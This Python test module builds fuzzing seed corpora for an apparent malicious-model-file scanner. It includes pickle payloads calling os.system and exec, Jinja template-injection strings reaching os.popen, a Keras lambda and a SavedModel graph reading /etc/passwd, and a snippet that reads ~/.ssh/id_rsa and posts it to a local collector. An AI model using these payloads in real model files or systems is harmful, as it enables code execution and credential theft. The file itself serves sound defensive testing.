"""Seed corpora, built in memory by the fixture builders (``tests/builders/``) on first use.

Malicious seeds carry sentinel payloads (``harness.sentinel_command``): if anything ever ran them, a
file would appear in the sentinel folder. Nothing here loads or unpickles anything.
"""

from __future__ import annotations

import functools
import io
import json
import struct
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import TypeVar

from tests.builders.pickles import Call, Global, call, pickle_of
from tests.fuzz.harness import sentinel_command, sentinel_python

T = TypeVar("T")


def _built(build: Callable[[Path], T]) -> T:
    """Run a builder that needs a scratch folder (the gguf writer writes a file) and remove it."""
    with tempfile.TemporaryDirectory(prefix="malhug-fuzz-seeds-") as tmp:
        return build(Path(tmp))


# --- pickles -------------------------------------------------------------------------------------


@functools.cache
def malicious_calls() -> tuple[Call, ...]:
    """Dangerous calls, each of which would create a sentinel file."""
    return (
        call("posix.system", sentinel_command("pickle-system")),
        call("os.system", sentinel_command("pickle-os")),
        call("builtins.exec", sentinel_python("pickle-exec")),
        call("subprocess.check_output", ["/bin/sh", "-c", sentinel_command("pickle-popen")]),
        Call(Global("posixpath", "os.system"), (sentinel_command("pickle-chain"),)),
        Call(call("builtins.getattr", call("builtins.__import__", "os"), "system"), (sentinel_command("pickle-get"),)),
    )


@functools.cache
def malicious_pickles() -> tuple[bytes, ...]:
    out = []
    for i, c in enumerate(malicious_calls()):
        for protocol in (0, 2, 4):
            out.append(pickle_of([c], protocol=protocol))
        out.append(pickle_of([c], protocol=5, root={"weights": [1.0, 2.0], "step": i}))
    return tuple(out)


@functools.cache
def benign_pickles() -> tuple[bytes, ...]:
    import pickle

    from tests.builders.benign import numpy_pickle_protocol2, stdlib_objects_pickle, vocab_pickle

    plain = [{"a": [1, 2.5, "x", b"y", None, True]}, list(range(40)), ("t", {"nested": {"k": (1, 2)}})]
    out = [pickle.dumps(v, protocol=p) for v in plain for p in (0, 2, 4, 5)]
    return (*out, *(_built(b) for b in (vocab_pickle, stdlib_objects_pickle, numpy_pickle_protocol2)))


# --- model formats -------------------------------------------------------------------------------


@functools.cache
def gguf_seeds() -> tuple[bytes, ...]:
    from tests.builders.benign import CHATML_TEMPLATE, gguf_llama3

    ssti = (
        "{% for m in messages %}{{ m['content'] }}{% endfor %}"
        "{{ cycler.__init__.__globals__.os.popen('" + sentinel_command("gguf-ssti") + "').read() }}"
    )
    return (
        _built(lambda tmp: gguf_llama3(tmp)),
        _built(lambda tmp: gguf_llama3(tmp, CHATML_TEMPLATE)),
        _built(lambda tmp: gguf_llama3(tmp, ssti)),
    )


def gguf_malicious() -> bytes:
    return gguf_seeds()[2]


@functools.cache
def onnx_seeds() -> tuple[bytes, ...]:
    from tests.builders.benign import onnx_model
    from tests.builders.evasions import onnx_external_data_traversal

    return (_built(onnx_model), _built(onnx_external_data_traversal))


@functools.cache
def safetensors_seeds() -> tuple[bytes, ...]:
    from tests.builders.benign import safetensors_file

    header = {"a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}, "__metadata__": {"format": "pt"}}
    raw = json.dumps(header).encode()
    return (_built(safetensors_file), struct.pack("<Q", len(raw)) + raw + bytes(16))


@functools.cache
def npy_seeds() -> tuple[bytes, ...]:
    import numpy as np

    from tests.builders.benign import numpy_npy

    buf = io.BytesIO()
    np.save(buf, np.array([[1, 2], [3, 4]], dtype=">i2"), allow_pickle=False)
    structured = io.BytesIO()
    np.save(structured, np.zeros(3, dtype=[("x", "<f4"), ("y", "S3")]), allow_pickle=False)
    return (_built(numpy_npy), buf.getvalue(), structured.getvalue(), *npy_object_seeds())


def npy_header(descr: object, shape: tuple[int, ...], version: int = 1) -> bytes:
    text = f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': {shape!r}, }}"
    prefix_len = 10 if version == 1 else 12
    pad = -(prefix_len + len(text) + 1) % 64
    text += " " * pad + "\n"
    size = struct.pack("<H" if version == 1 else "<I", len(text))
    return b"\x93NUMPY" + bytes([version, 0]) + size + text.encode("latin-1")


@functools.cache
def npy_object_seeds() -> tuple[bytes, ...]:
    """Object arrays (``|O``): NumPy unpickles the data that follows the header."""
    calls = malicious_calls()
    return (
        npy_header("|O", (1,)) + pickle_of([calls[0]], protocol=2),
        npy_header("|O", (2,), version=2) + pickle_of([calls[2]], protocol=4),
    )


# --- templates, Keras ----------------------------------------------------------------------------

BENIGN_TEMPLATES = (
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] }}{% endfor %}",
    "{% set ns = namespace(sys=false) %}{% for m in messages %}{% if m.role == 'system' %}"
    "{% set ns.sys = true %}{% endif %}{{ m.content | trim }}{% endfor %}",
    "{% if messages[0]['role'] != 'user' %}{{ raise_exception('bad') }}{% endif %}{{ strftime_now('%d') }}",
    "{% generation %}{{ x }}{% endgeneration %}{% for i in range(3) %}{% break %}{% endfor %}",
)


def malicious_templates() -> tuple[str, ...]:
    cmd = sentinel_command("jinja")
    return (
        "{{ cycler.__init__.__globals__.os.popen('" + cmd + "').read() }}",
        "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('" + cmd + "') }}",
        "{% set a = '__cla' + 'ss__' %}{{ ''|attr(a) }}",
        "{{ lipsum['__glo' ~ 'bals__']['os'].popen('" + cmd + "') }}",
        "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{{ c('" + cmd + "', shell=True) }}{% endfor %}",
        "{{ namespace.__init__.__globals__['__builtins__']['eval']('1') }}",
    )


@functools.cache
def keras_config_seeds() -> tuple[bytes, ...]:
    from tests.builders.keras import keras_metadata_pb, lambda_b64, lambda_v2, sequential_config

    body = f"__import__('os').system({sentinel_command('keras')!r}) or x"
    evil = sequential_config([lambda_v2(lambda_b64(body, filename="<stdin>"))])
    plain = sequential_config([])
    return (
        json.dumps(evil).encode(),
        json.dumps(plain).encode(),
        keras_metadata_pb(None),
        keras_metadata_pb(body),
    )


@functools.cache
def savedmodel_seeds() -> tuple[bytes, ...]:
    """``saved_model.pb`` graphs (hand-encoded): an ordinary one and one whose ops read a credential
    file and call a ``PyFunc``."""
    from tests.keras.protowire import node_def, saved_model, string_attr, string_tensor_attr

    plain = [node_def("x", "Placeholder"), node_def("w", "VarHandleOp"), node_def("y", "MatMul", ("x", "w"))]
    evil = [
        *plain,
        node_def("path", "Const", attrs={"value": string_tensor_attr("/etc/passwd")}),
        node_def("leak", "ReadFile", ("path",)),
        node_def("py", "PyFunc", attrs={"token": string_attr("pyfunc_0")}),
    ]
    return (saved_model(plain, functions={"__inference_call_1": plain}), saved_model(evil))


@functools.cache
def marshal_seeds() -> tuple[bytes, ...]:
    from tests.builders.marshal_code import code_bytes, compile_lambda

    code = compile_lambda(f"__import__('os').system({sentinel_command('marshal')!r}) or x", filename="<stdin>")
    plain = compile_lambda("x * 2 + 1", filename="<stdin>")
    return tuple(code_bytes(c, version) for c in (code, plain) for version in ((3, 11), (3, 8)))


# --- containers ----------------------------------------------------------------------------------

WRAPPERS = ("zip", "zip-deflate", "tar", "7z", "gzip", "bz2", "xz", "lz4", "zlib")


def wrap(kind: str, data: bytes, name: str = "model.pkl") -> bytes:
    """``data`` inside a container a loader opens (torch.load, joblib.load, np.load, tarfile...)."""
    import bz2
    import lzma
    import tarfile
    import zipfile
    import zlib

    from tests.builders.wrappers import gzipped, sevenzip, zip_of

    if kind == "zip":
        return zip_of({name: data})
    if kind == "zip-deflate":
        return zip_of({"README.md": b"weights\n", name: data}, compression=zipfile.ZIP_DEFLATED)
    if kind == "tar":
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w") as tar:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        return buf.getvalue()
    if kind == "7z":
        return sevenzip(name, data)
    if kind == "gzip":
        return gzipped(data)
    if kind == "bz2":
        return bz2.compress(data)
    if kind == "xz":
        return lzma.compress(data)
    if kind == "lz4":
        import lz4.frame

        return bytes(lz4.frame.compress(data))
    if kind == "zlib":
        return zlib.compress(data)
    raise ValueError(kind)


@functools.cache
def container_seeds() -> tuple[bytes, ...]:
    from tests.builders.benign import numpy_npz, numpy_npz_compressed
    from tests.builders.torchfiles import poisoned_torch_zip
    from tests.builders.wrappers import zip_of

    evil = malicious_pickles()[1]
    torch_zip = poisoned_torch_zip("archive", [malicious_calls()[0]])
    npz = zip_of({"weights.npy": npy_seeds()[0], "objects.npy": npy_object_seeds()[0]})
    return (
        torch_zip,
        *(wrap(kind, evil) for kind in WRAPPERS),
        wrap("zip", torch_zip, "inner/model.bin"),
        npz,
        _built(numpy_npz),
        _built(numpy_npz_compressed),
    )


# --- Python --------------------------------------------------------------------------------------


def malicious_script() -> str:
    from tests.builders.evasions import loading_script_running

    return loading_script_running(sentinel_command("script"))


@functools.cache
def python_seeds() -> tuple[bytes, ...]:
    from tests.builders import payloads
    from tests.builders.benign import DATASET_SCRIPT, MODELING_SCRIPT

    stealer = (
        "import os, requests\n"
        "token = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "requests.post('http://127.0.0.1/collect', data=token)\n"
    )
    return tuple(
        s.encode()
        for s in (
            DATASET_SCRIPT,
            MODELING_SCRIPT,
            malicious_script(),
            stealer,
            payloads.YOUAREHACKED,
            payloads.WALK_REMOVE,
        )
    )
